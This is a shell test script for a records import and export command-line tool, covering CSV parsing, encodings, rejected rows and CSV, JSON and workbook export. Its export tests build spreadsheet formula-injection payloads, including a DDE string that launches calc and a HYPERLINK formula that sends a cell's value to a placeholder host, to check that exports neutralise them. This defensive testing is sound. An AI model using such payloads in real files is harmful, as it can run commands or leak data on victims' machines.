#!/bin/sh
# waymark-cli records import: tables as other programs write them.
. "$WAYMARK_TESTS/support/tap.sh"
cd "$TMPDIR" || exit 1
cli=$WAYMARK_CLI
export WAYMARK_DATA_DIR="$TMPDIR/records"
db=$WAYMARK_DATA_DIR/records.db

json () {
  python3 -c "import json, sys
j = json.load (sys.stdin)
assert ($1), j"
}

# import_counts READ ADDED UPDATED UNCHANGED REJECTED ARGUMENT…
import_counts () {
  wanted="$1 $2 $3 $4 $5"
  shift 5
  "$cli" records import --json "$@" >out.json || return 1
  python3 -c 'import json, sys
j = json.load (open ("out.json"))
got = " ".join (str (j[k]) for k in ("read", "added", "updated", "unchanged", "rejected"))
assert got == sys.argv[1], (got, j["problems"])' "$wanted"
}

# refused LINE FILE: refused as a whole, with the line, and nothing is different.
refused () {
  before=$(cksum <"$db")
  "$cli" records import accounts "$2" >out.txt 2>err.txt && return 1
  [ ! -s out.txt ] && [ "$(wc -l <err.txt)" -eq 1 ] && grep -q "Line $1:" err.txt && [ "$(cksum <"$db")" = "$before" ]
}

show () {
  "$cli" records show "$1" "$2" --json
}

printf 'Company name,Website URL,Annual Revenue,# Employees,Country,Founded,Tech Stack\r\n' >crm.csv
printf 'Bluebay Ltd,http://www.bluebay.example/,"$1,100.04 ",2822,Kenya,1996,SAP; Excel\r\n' >>crm.csv
printf 'Harbour Ltd,,n/a,,,,\r\nbluebay ltd,,,,,,' >>crm.csv
ok 'a dry run counts' import_counts 3 2 0 1 0 -n accounts crm.csv
is 'and adds nothing' "$("$cli" records list accounts)" ''
ok 'the same company in other letters is the same' import_counts 3 2 0 1 0 accounts crm.csv
show accounts 'Bluebay Ltd' >show.json
ok 'columns are recognised by their names' json "j['revenue'] == '1100.04 USD' and j['region'] == 'Kenya' and j['founded'] == 1996
  and j['technologies'] == ['SAP', 'Excel'] and j['website'] == 'http://www.bluebay.example/'" <show.json
ok 'once more changes nothing' import_counts 3 0 0 3 0 accounts crm.csv
printf 'Website,Employees,Account Name\nhttps://bluebay.example,,Bluebay Limited\n' >renamed.csv
ok 'a company is known by its address' import_counts 1 0 1 0 0 accounts renamed.csv
ok 'empty cells change nothing' sh -c '"$0" records show accounts "Bluebay Limited" --json | grep -q "1100.04 USD"' "$cli"
is 'what changed is found' "$("$cli" records search accounts limited | cut -f 2)" 'Bluebay Limited'
ok 'the records are sound' "$cli" records check

# encodings, delimiters
printf 'Firma;Umsatz;Kunde seit;Ort\r\nM\374ller & S\366hne;1.100,04 \200;31.12.2019;K\366ln\r\nBr\374ckner;2,5;1.2.2020;Ulm\r\n' >deutsch.csv
ok 'a German table' import_counts 2 2 0 0 0 --map 'Kunde seit=since' --currency eur accounts deutsch.csv
show accounts 'müller & söhne' >show.json
ok 'has its letters, amounts and dates' json "j['name'] == 'Müller & Söhne' and j['revenue'] == '1100.04 EUR' and j['since'] == '2019-12-31'" <show.json
show accounts 'Brückner' >show.json
ok 'a comma in a number is none between columns' json "j['revenue'] == '2.5 EUR'" <show.json
printf '\357\273\277sep=|\nName|Note\nPipe|a;b,c\n' >sep.csv
ok 'the line sep= is heeded' import_counts 1 1 0 0 0 accounts sep.csv
printf 'Name\tRegion\rTabs\tEast\r' >mac.csv
ok 'carriage returns end lines' import_counts 1 1 0 0 0 accounts mac.csv
printf 'Account Name\nOnly One\n' >one.csv
ok 'one column' import_counts 1 1 0 0 0 accounts one.csv
printf 'name,note\nWide \303\251,x\n' | iconv -f UTF-8 -t UTF-16 >wide.csv
ok 'UTF-16' import_counts 1 1 0 0 0 accounts wide.csv
is 'has its letters' "$("$cli" records search accounts wide | cut -f 2)" 'Wide é'
printf 'name,note\nBare \303\251,x\n' | iconv -f UTF-8 -t UTF-16BE >bare.csv
ok 'UTF-16 without a mark' import_counts 1 1 0 0 0 accounts bare.csv
printf 'name\n\223\372\226\173\n' >sjis.csv
ok 'an encoding can be chosen' import_counts 1 1 0 0 0 --encoding SHIFT-JIS accounts sjis.csv
is 'and is used' "$("$cli" records list accounts | cut -f 2 | grep 日)" '日本'

# rows
printf 'name,region,employees\nAcme,North,10\nBolt,South\nCrux,West,9,extra\n\nDelta,,many\n"Two\nlines",East,1\n,,5\n' >rows.csv
ok 'rows that cannot be records are rejected' import_counts 6 3 0 0 3 accounts rows.csv
ok 'with their lines' json "[p['line'] for p in j['problems']] == [4, 6, 9] and all (p['message'] for p in j['problems'])" <out.json
printf '1,Alpha,20\n2,Beta,30\n' >bare.csv
ok 'without a header columns have numbers' import_counts 2 2 0 0 0 --map 2=name --map 3=employees accounts bare.csv
printf 'a,b\nx,y\n' >unknown.csv
fails 'a table of which no column can be the name' 1 "$cli" records import --json accounts unknown.csv
is 'is refused once' "$("$cli" records import accounts unknown.csv 2>&1)" 'waymark-cli: unknown.csv: No column is the name. Say which one is. “--map COLUMN=FIELD” says so, for example --map 1=name.'
printf 'name,tier,Rank\n,lite,1\n,lite,2\n' >rejected.csv
fails 'a table of which no row can be taken' 1 sh -c '"$0" records import --json accounts rejected.csv >out.json' "$cli"
ok 'is counted all the same' json "j['read'] == j['rejected'] == 2 and j['untold'] == 0" <out.json
ok 'and says what its columns were' json "j['columns'] == [{'column': 'name', 'field': 'name'}, {'column': 'tier', 'field': 'tier'},
  {'column': 'Rank', 'field': None}]" <out.json
printf 'Name,Tier,Size\nTiered,Strategic,big\nTier One,Gold,small\nTier Two,Silver,small\n' >tiers.csv
is 'a column of our own name is not dropped' "$("$cli" records import accounts tiers.csv 2>err.txt)" '3 rows were read: 1 added, 0 updated, 0 unchanged, 2 rejected.
Columns taken: “Name” = name, “Tier” = tier
Columns left out: “Size”'
is 'its rows are told' "$(cut -d : -f 3 err.txt | tr -d '\n')" 34
: >empty.csv
is 'a table without rows is told' "$("$cli" records import accounts empty.csv 2>&1 >out.txt)" 'waymark-cli: empty.csv: The table has no rows. Choose one with a row for each record.'

# what is no table
printf 'name,note\nAcme,"starts and\nnever ends\nBolt,ok\n' >unclosed.csv
ok 'a quote that is not closed' refused 2 unclosed.csv
printf 'name,note\nGood,"two\nlines"\nNul,a\000b\n' >nul.csv
ok 'a NUL' refused 4 nul.csv
printf 'name\n\303\251\303\250\nbroken \303\n' >broken.csv
ok 'a byte outside the encoding' refused 3 broken.csv
printf 'name\nok\n\201\n' >undefined.csv
ok 'a byte that no encoding has' refused 3 undefined.csv
printf 'name,note\na,b "c" d\n' >inner.csv
ok 'a quote inside of a field' refused 2 inner.csv

# references
printf 'First Name,Last Name,Company,E-mail Address,Job Title\nAnn,Lee,Nowhere Inc,ann@nowhere.example,Buyer\nBo,Ray,Acme,bo@acme.example,=cmd\n' >people.csv
ok 'a company that is not there' import_counts 2 1 0 0 1 contacts people.csv
ok 'is told' json "j['problems'][0]['line'] == 2 and 'Nowhere Inc' in j['problems'][0]['message']" <out.json
ok 'or added when asked' import_counts 2 1 0 1 0 --create-missing contacts people.csv
show contacts 'Ann Lee' >show.json
ok 'people have their names in two columns' json "j['email'] == 'ann@nowhere.example' and j['position'] == 'Buyer'" <show.json

# usage
fails 'no such file' 1 "$cli" records import accounts none.csv
is 'and it says so' "$("$cli" records import accounts none.csv 2>&1)" 'waymark-cli: none.csv: There is no such file. It may have been moved or renamed.'
is 'a folder is no table' "$("$cli" records import accounts . 2>&1)" 'waymark-cli: .: This is a folder. Choose a file in it.'
fails 'an unknown column is wrong usage' 2 "$cli" records import --map nope=name accounts crm.csv
fails 'an unknown field is wrong usage' 2 "$cli" records import --map Country=nope accounts crm.csv
fails 'an unknown key is wrong usage' 2 "$cli" records import --key nope accounts crm.csv
fails 'a key that is no column' 1 "$cli" records import --key website accounts rows.csv
fails 'four letters are no currency' 2 "$cli" records import --currency EURO accounts crm.csv
fails 'any three letters are none' 2 "$cli" records import --currency xyz accounts crm.csv
fails 'an unknown encoding' 1 "$cli" records import --encoding nope accounts crm.csv
fails 'no file is wrong usage' 2 "$cli" records import accounts

# export
"$cli" records add accounts name='=HYPERLINK("x")' note='+49 30
second' technologies='a;b' value='-1200.5 EUR' renewal=2027-03-01 tier=lite region=Export >/dev/null
ok 'export' "$cli" records export accounts export out.csv
is 'only what was asked for' "$("$cli" records export --format csv --fields name accounts export - | tr -d '\r')" 'name
"'"'"'=HYPERLINK(""x"")"'
ok 'what was exported changes nothing' import_counts 1 0 0 1 0 accounts out.csv
ok 'and makes the same elsewhere' sh -c '"$0" --data-dir other records import accounts out.csv >/dev/null &&
  "$0" --data-dir other records export accounts again.csv && cmp out.csv again.csv' "$cli"
ok 'a mark for Excel' sh -c '"$0" records export --bom accounts export marked.csv && head -c 3 marked.csv >mark && head -c 3 sep.csv | cmp - mark' "$cli"
ok 'JSON' sh -c '"$0" records export accounts export out.json && python3 -c "import json; assert len (json.load (open (\"out.json\"))) == 1"' "$cli"
ok 'to standard output' sh -c '"$0" records export accounts export | cmp - out.csv && "$0" records export accounts export --json | cmp - out.json &&
  "$0" records export --format json accounts | head -c 1 | grep -q "\["' "$cli"
fails 'JSON in another format is wrong usage' 2 "$cli" records export --json --format csv accounts
ok 'a workbook' "$cli" records export accounts export out.xlsx
ok 'has typed cells and no formulas' python3 -c 'import zipfile
sheet = zipfile.ZipFile ("out.xlsx").read ("xl/worksheets/sheet1.xml").decode ()
assert "<f>" not in sheet and "=HYPERLINK(" in sheet and "<v>-1200.5</v>" in sheet and "<v>46447</v>" in sheet, sheet'
cat >triggers.py <<'END'
"""Tables of every beginning that a spreadsheet could take for a formula, in every kind of text."""
import csv, re, subprocess, sys, zipfile
from xml.etree import ElementTree

cli, triggers = sys.argv[1], "=+-@\t\r＝＋－＠"
bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"y")', "SUM(1)*cmd", "a"]
texts = [trigger + body for trigger in triggers for body in bodies] + ["'" + trigger + "1+1" for trigger in triggers]
kinds = {"accounts": ["name", "note", "region", "technologies"], "contacts": ["name", "note", "department"],
         "personas": ["name", "quote", "goals"], "jobs": ["statement", "why"]}
cells = 0
for kind, columns in kinds.items():
    with open("triggers.csv", "w", newline="") as f:
        rows = csv.writer(f)
        rows.writerow(columns)
        rows.writerows([text + str(i) if column == 0 else text for column in range(len(columns))] for i, text in enumerate(texts))
    folder = "triggers-" + kind
    subprocess.run([cli, "--data-dir", folder, "records", "import", kind, "triggers.csv"], check=True, stdout=subprocess.DEVNULL)
    for ending in "csv", "xlsx":
        subprocess.run([cli, "--data-dir", folder, "records", "export", kind, "triggers." + ending], check=True)
    with open("triggers.csv", newline="") as f:
        rows = list(csv.reader(f))
        assert len(rows) > len(texts) * 0.9, (kind, len(rows))
        for cell in (cell for row in rows for cell in row if cell):
            assert cell[0] not in triggers or re.fullmatch("[+-]?[0-9.,]+", cell), (kind, cell)
            cells += 1
    with zipfile.ZipFile("triggers.xlsx") as book:
        assert not [name for name in book.namelist() if re.search("vba|external|connection|query", name, re.I)], book.namelist()
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
        assert not list(sheet.iter(space + "f")) and not list(sheet.iter(space + "hyperlink")), kind
        found = [cell for cell in sheet.iter(space + "c") if len(cell)]
        assert len(found) > len(texts), (kind, len(found))
        # A text is a text by its type; what has none is a number.
        for cell in found:
            assert cell.get("t") in ("s", "inlineStr", None), (kind, cell.get("t"))
            assert cell.get("t") or float(cell.find(space + "v").text) is not None
        cells += len(found)
print("# promise 11: %d cells of tables whose texts begin like formulas, 0 that a spreadsheet would run" % cells)
END
python3 triggers.py "$cli" >triggers.txt 2>&1
sed 's/^[^#]/# &/' triggers.txt
ok 'no text of any kind is a formula in a table' grep -q '^# promise 11: ' triggers.txt
fails 'an unknown format is wrong usage' 2 "$cli" records export accounts out.txt
fails 'nowhere to write' 1 "$cli" records export accounts none/out.csv
is 'nothing is left of it' "$(ls | grep -c part)" 0

# what is remembered
printf 'x1,x2\nRemembered,North\n' >memory.csv
ok 'what columns mean is said once' import_counts 1 1 0 0 0 --map x1=name --map x2=region accounts memory.csv
ok 'and remembered' import_counts 1 0 0 1 0 accounts memory.csv
ok 'the records are still sound' "$cli" records check

tap_done
